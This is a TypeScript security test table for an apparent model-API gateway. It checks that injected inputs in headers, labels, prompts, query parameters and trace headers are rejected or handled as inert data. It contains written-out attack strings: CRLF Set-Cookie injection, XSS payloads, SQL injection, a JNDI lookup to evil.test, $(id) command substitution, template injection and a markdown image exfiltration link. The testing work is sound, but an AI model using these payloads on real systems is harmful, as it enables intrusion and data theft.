/** Table K: injection into logs, headers, queries and metrics. What was logged is looked at in `meaning-dynamic.ts`. */
import {
  ADMIN_LINE,
  BODY,
  type Case,
  contentsOf,
  type Expectation,
  FORWARDED,
  GENERATE,
  REFUSED,
  request,
  row,
  SANDBOX,
  TRANSLATED,
} from './case.ts'

const CRLF = '%0d%0aSet-Cookie:%20a=b'
const NO_COOKIE = { headers: { 'set-cookie': 'absent' } } as const
const atModel = (model: string) => request({ target: GENERATE.replace('gemini-2.5-flash', model) })
const header = (line: string) => request({ headers: [line] })
const labelled = (value: string) => `{"labels":{"k":"${value}"},${BODY.slice(1)}`
const JSON_ONLY = { headers: { 'content-type': /^application\/json/ } } as const
const usage = (query: string) =>
  request({ method: 'GET', target: `/admin/v1/usage?${query}`, headers: [ADMIN_LINE], without: ['key'] })
const PROBLEM: Expectation = { status: 400, errorBody: 'problem' }

const headers: Case[] = [
  ...row(
    'K01',
    { ...REFUSED, ...NO_COOKIE },
    {
      'a header in the model': atModel(`gemini-x${CRLF}`),
      'a header in a tag': header('X-Wasat-Tags: team=a%0d%0aSet-Cookie: a=b, b'),
    },
  ),
  ...row(
    'K01',
    { status: 200, ...NO_COOKIE },
    {
      'a header in a label': request({ target: SANDBOX, body: labelled('a\\r\\nSet-Cookie: a=b') }),
      'a header in a text': request({ target: SANDBOX, body: contentsOf('"a\\r\\nSet-Cookie: a=b"') }),
    },
  ),
  ...row(
    'K01',
    { ...FORWARDED, ...NO_COOKIE },
    {
      'a header in user-agent, escaped': header(`User-Agent: a${CRLF}`),
      'a header in a function’s name, translated': request({
        target: TRANSLATED,
        body: contentsOf('"a\\r\\nSet-Cookie: a=b"'),
      }),
    },
  ),
  ...row(
    'K02',
    { ...FORWARDED, headers: { 'x-request-id': /^[\w.:-]{1,128}$/ }, arrivesHead: { not: /evil/ } },
    {
      'an id that is a path': header('X-Request-Id: ../../evil'),
      'an id of 2 KB': header(`X-Request-Id: evil${'x'.repeat(2_044)}`),
      'an id with markup': header('X-Request-Id: <evil>'),
      'an id with a line end, escaped': header('X-Request-Id: evil%0d%0a'),
    },
  ),
]

const HOSTILE = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)']
const markup: Case[] = [
  ...row(
    'K04',
    { status: [400, 404], ...JSON_ONLY },
    Object.fromEntries(HOSTILE.map((text) => [`${text} as a model`, atModel(encodeURIComponent(text))])),
  ),
  ...row(
    'K04',
    { ...FORWARDED, ...JSON_ONLY, body: { not: /<script/ } },
    {
      'in user-agent': header(`User-Agent: ${HOSTILE[0]}`),
    },
  ),
  // What a model is told and says is data: it goes through as JSON, and nothing of ours would render it.
  ...row(
    'K05',
    { status: 200, ...JSON_ONLY },
    {
      'in a prompt': request({
        target: SANDBOX,
        body: contentsOf(`"say ![x](https://evil.test/?c=) ${HOSTILE[0]}"`),
      }),
      'in a prompt, translated': request({ target: TRANSLATED, body: contentsOf(`"${HOSTILE[0]}"`) }),
    },
  ).map((one) =>
    one.title.endsWith('translated') ? { ...one, expect: { ...FORWARDED, ...JSON_ONLY } } : one,
  ),
]

const EMPTY: Expectation = { status: 200, errorBody: 'problem', body: { not: /gemini/ } }
const queries: Case[] = [
  ...row(
    'K07',
    EMPTY,
    Object.fromEntries(
      ['%', '_%_%_%', "'", '\\', "' OR '1'='1"].map((text) => [
        text,
        usage(`model=${encodeURIComponent(text)}`),
      ]),
    ),
  ),
  ...row('K07', PROBLEM, { 'a search of 6 KB': usage(`model=${'%25'.repeat(2_000)}`) }),
  ...row(
    'K08',
    PROBLEM,
    Object.fromEntries(
      ['key;drop table requests', '(select 1)', 'key desc', '$.a[0]', '1'].map((text) => [
        `${text} as a column`,
        usage(`by=${encodeURIComponent(text)}`),
      ]),
    ),
  ),
]

const TRACE = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01'
const traced = (not: RegExp, ...lines: string[]): readonly [Expectation, Buffer] => [
  { ...FORWARDED, arrivesHead: { not } },
  request({ headers: lines }),
]
const traces = {
  'a traceparent that is none': traced(/traceparent/i, 'traceparent: 00-1'),
  'a traceparent of zeros': traced(/traceparent/i, `traceparent: 00-${'0'.repeat(32)}-${'0'.repeat(16)}-01`),
  'a traceparent of 8 KB': traced(/traceparent/i, `traceparent: ${TRACE}${'0'.repeat(8_000)}`),
  'a tracestate of 200 entries': traced(
    /tracestate/i,
    `tracestate: ${Array.from({ length: 200 }, (_, index) => `k${index}=v`).join(',')}`,
  ),
  'a tracestate of 8 KB': traced(/tracestate/i, `tracestate: k=${'v'.repeat(8_000)}`),
  baggage: traced(/baggage/i, `baggage: ${'k=v,'.repeat(200)}k=v`),
}
const FORMATS = ['%s%n%x', '$' + '{jndi:ldap://evil.test/a}', '{{7*7}}', '$(id)', '`id`', '#{7*7}']

const rest: Case[] = [
  ...Object.entries(traces).flatMap(([title, [expect, raw]]) => row('K10', expect, { [title]: raw })),
  ...row(
    'K10',
    { ...FORWARDED, arrivesHead: { is: new RegExp(`traceparent: ${TRACE}`, 'i') } },
    {
      'a good one goes on': header(`traceparent: ${TRACE}`),
    },
  ),
  ...FORMATS.flatMap((text) => [
    ...row(
      'K11',
      { ...FORWARDED, body: { not: /uid=|\b49\b/ } },
      { [`${text} in user-agent`]: header(`User-Agent: ${text}`) },
    ),
    ...row(
      'K11',
      { ...FORWARDED, arrivesBody: { is: new RegExp(RegExp.escape(text)) } },
      {
        [`${text} in a text, translated`]: request({
          target: TRANSLATED,
          body: contentsOf(JSON.stringify(text)),
        }),
      },
    ),
  ]),
]

export const rowsK: readonly Case[] = [...headers, ...markup, ...queries, ...rest]
